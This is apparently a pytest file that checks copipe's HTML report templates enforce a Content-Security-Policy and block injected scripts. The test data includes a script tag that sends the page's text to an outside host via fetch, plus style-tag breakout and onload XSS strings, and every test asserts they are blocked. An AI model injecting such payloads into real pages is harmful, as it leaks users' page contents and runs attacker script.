"""Whatever a study's own templates hold, a page runs copipe's script alone and opens no connection."""

from __future__ import annotations

import re
from base64 import b64encode
from dataclasses import replace
from hashlib import sha256
from pathlib import Path

import pytest

from copipe.errors import ConfigError
from copipe.report import html
from copipe.report.templates import own
from tests.report.templates.test_fill import seen

pytestmark = pytest.mark.attack("templates")

POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
EVIL = '<script>fetch("https://example.org/" + document.body.innerText)</script>'


def allowed(page: str) -> list[str]:
    """The scripts of a page that its first policy lets run."""
    policy = POLICY.search(page)
    assert policy
    assert page.index("<head>") + len("<head>\n") == policy.start()
    assert "unsafe-inline" not in policy[1].replace("style-src 'unsafe-inline'", "")
    scripts = re.findall(r"<script[^>]*>(.*?)</script>", page, re.S | re.I)
    return [s for s in scripts if "sha256-" + b64encode(sha256(s.encode()).digest()).decode() in policy[1]]


def test_the_script_of_a_transcript_runs_and_no_other(tmp_path: Path) -> None:
    assert len(allowed(html.transcript(seen()))) == 1
    text = own.text("transcript.html.j2")
    for changed in (
        text.replace("</main>", EVIL + "</main>"),
        text.replace('"use strict";', '"use strict"; alert(1);'),
    ):
        (tmp_path / "transcript.html.j2").write_text(changed)
        page = html.transcript(replace(seen(), templates=tmp_path))
        assert not [s for s in allowed(page) if "fetch" in s or "alert" in s]


def test_a_report_runs_none(tmp_path: Path) -> None:
    assert "script-src" not in html.report("# x", "x", ()) and "default-src 'none'" in html.report("# x", "x", ())
    (tmp_path / "report.html.j2").write_text(own.text("report.html.j2").replace("<body>", f"<body>{EVIL}"))
    assert allowed(html.report("# x", "x", (), tmp_path)) == []


@pytest.mark.parametrize("css", ["</style><script>alert(1)</script>", "a{content:'</STYLE><script>alert(1)</script>'}"])
def test_a_style_sheet_cannot_end_its_element(tmp_path: Path, css: str) -> None:
    (tmp_path / "style.css.j2").write_text(css)
    page = html.transcript(replace(seen(), templates=tmp_path))
    head = page.partition("</head>")[0]
    assert head.lower().count("</style") == 1
    assert "<script>alert" not in re.sub(r"<style>.*?</style>", "", page, flags=re.S | re.I)


@pytest.mark.parametrize("before", [EVIL, "<html><body>", "<!DOCTYPE html><html onload=alert(1)><head>", "<!-- x -->"])
def test_nothing_comes_before_the_policy(tmp_path: Path, before: str) -> None:
    (tmp_path / "report.html.j2").write_text(before + own.text("report.html.j2"))
    with pytest.raises(ConfigError, match="a page begins with"):
        html.report("# x", "x", (), tmp_path)
